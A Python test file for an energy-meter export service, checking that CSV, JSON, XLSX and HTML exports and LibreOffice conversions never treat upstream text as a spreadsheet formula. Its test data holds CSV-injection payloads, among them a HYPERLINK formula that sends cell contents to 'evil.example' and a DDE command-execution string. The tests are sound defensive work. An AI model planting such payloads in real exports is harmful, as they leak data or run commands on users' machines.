"""What upstream writes is never run: a text that looks like a formula is text in every format, a number a number."""

import csv
import io
import subprocess
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from access.rewriting import Rewriting
from openpyxl.workbook import Workbook
from service import Running, running

EVIL = {
    "a_equals": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "b_plus": "+1+1",
    "c_minus": "-1-1",
    "d_at": "@SUM(1,1)",
    "e_tab": "\t=1+1",
    "f_return": "\r=1+1",
    "g_dde": "=cmd|' /C calc'!A0",
    "h_quoted": '="a"","',
    "i_ordinary": "1+1=2",
}
STATUS = "=1+1"
USAGE = "period=2021-06-01&meter=gas&columns=time,energy_kwh,meter"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_FILTER = "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,2057,false,true"
Cells = list[dict[str, Any]]


def played(path: str, found: Any) -> Any:
    """An upstream of which somebody else writes the texts; its gas meter feeds in at night."""
    if "/meter/" in path:
        return [{**row, "energy_kwh": -0.5 if "T00:" in row["time"] else 0.25} for row in found]
    numbers = {"x_float": -0.5, "y_integer": -5}
    return [{**meter, "status": STATUS, **EVIL, **numbers, "=1+1": "a name"} for meter in found]


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    with running(tmp_path_factory.mktemp("evil"), wrap=lambda app: Rewriting(app, played)) as service:
        yield service


@pytest.fixture(scope="module")
def opened(evil: Running, soffice: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Workbook]:
    """What LibreOffice makes of both tables in both formats, saved as workbooks: by table and format."""
    folder = tmp_path_factory.mktemp("libreoffice")
    books: dict[str, Workbook] = {}
    for extension, options in (("csv", [CSV_FILTER]), ("xlsx", [])):
        urls = [f"{evil.address}/meters.{extension}", f"{evil.address}/usage.{extension}?{USAGE}"]
        out = folder / extension
        command = [soffice, f"-env:UserInstallation=file://{folder}/profile", "--headless", *options]
        command += ["--convert-to", "xlsx", "--outdir", str(out), *urls]
        done = subprocess.run(command, capture_output=True, text=True, timeout=180, check=False)
        files = sorted(out.glob("*"))
        assert [file.stem for file in files] == ["meters", "usage"], done.stdout + done.stderr
        books |= {f"{file.stem}.{extension}": openpyxl.load_workbook(file) for file in files}
    return books


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def cells_of(book: Workbook) -> Cells:
    """The rows of a workbook's first sheet, its cells by the names in the header."""
    header, *rows = book.worksheets[0].iter_rows()
    names = [str(cell.value) for cell in header]
    return [dict(zip(names, row, strict=True)) for row in rows]


def test_in_a_csv_a_text_that_looks_like_a_formula_has_an_apostrophe_before_it(evil: Running) -> None:
    rows = rows_of(evil.text("/meters.csv"))
    assert len(rows) == 3
    for row in rows:
        assert row["status"] == f"'{STATUS}"
        for name, text in EVIL.items():
            assert row[name] == (f"'{text}" if text.startswith(FORMULA_STARTS) else text)
    header = evil.text("/meters.csv").splitlines()[0].split(",")
    assert not [name for name in header if name.startswith(FORMULA_STARTS)], "nor is a column's name a formula"


def test_in_the_other_formats_the_text_stands_as_it_came(evil: Running) -> None:
    for meter in evil.get("/meters.json").json():
        assert meter["status"] == STATUS
        assert {name: meter[name] for name in EVIL} == EVIL
    book = openpyxl.load_workbook(io.BytesIO(evil.get("/meters.xlsx").content))
    for row in cells_of(book):
        for name, text in {**EVIL, "status": STATUS}.items():
            assert row[name].data_type == "s"
            assert row[name].value.strip() == text.strip()
    html = evil.text("/meters.html")
    assert "=1+1" in html
    assert "'=" not in html


def test_a_number_never_has_an_apostrophe(evil: Running) -> None:
    rows = rows_of(evil.text(f"/usage.csv?{USAGE}&tz=UTC"))
    assert [row["energy_kwh"] for row in rows[:3]] == ["-0.5", "-0.5", "0.25"]
    assert {row["y_integer"] for row in rows_of(evil.text("/meters.csv"))} == {"-5"}
    assert rows_of(evil.text("/usage.csv?period=2021-06-01&meter=gas&aggregate=hour&tz=UTC"))[0]["energy_kwh"] == "-1"
    assert evil.get(f"/usage.json?{USAGE}&tz=UTC").json()[0]["energy_kwh"] == -0.5
    wide = rows_of(evil.text("/usage.csv?period=2021-06-01&meter=gas&layout=wide&tz=UTC"))[0]
    grid = rows_of(evil.text("/usage.csv?period=2021-06-01&meter=gas&layout=grid&tz=UTC"))[0]
    assert wide["gas_energy_kwh"] == grid["00:00"] == "-0.5"


def test_a_fraction_that_upstream_lists_of_a_meter_is_a_number_too(evil: Running) -> None:
    assert {row["x_float"] for row in rows_of(evil.text("/meters.csv"))} == {"-0.5"}
    assert {meter["x_float"] for meter in evil.get("/meters.json").json()} == {-0.5}


def test_an_error_that_names_what_was_asked_for_is_no_formula(evil: Running) -> None:
    for evil_text in ("%3D1%2B1", "%2B1", "-1", "@SUM(1)", "%09%3D1", "%0D%3D1"):
        for name in ("meter", "period", "columns", "tz", "aggregate"):
            answer = evil.get(f"/usage.csv?{name}={evil_text}")
            assert answer.status_code in {400, 404}
            cells = [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]
            assert len(cells) == 4
            assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.libreoffice
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_libreoffice_runs_nothing_that_upstream_wrote(opened: dict[str, Workbook], extension: str) -> None:
    rows = cells_of(opened[f"meters.{extension}"])
    assert len(rows) == 3
    for row in rows:
        assert {cell.data_type for cell in row.values()}.isdisjoint({"f", "e"})
        for name, text in {**EVIL, "status": STATUS}.items():
            assert row[name].data_type == "s"
            assert row[name].value.removeprefix("'").strip() == text.strip()
        assert row["y_integer"].value == -5


@pytest.mark.libreoffice
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_libreoffice_takes_energy_that_was_fed_in_as_a_number(opened: dict[str, Workbook], extension: str) -> None:
    rows = cells_of(opened[f"usage.{extension}"])
    energy = [row["energy_kwh"] for row in rows]
    assert {cell.data_type for cell in energy} == {"n"}
    assert sorted({cell.value for cell in energy}) == [-0.5, 0.25]
    assert {row["meter"].value for row in rows} == {"gas"}
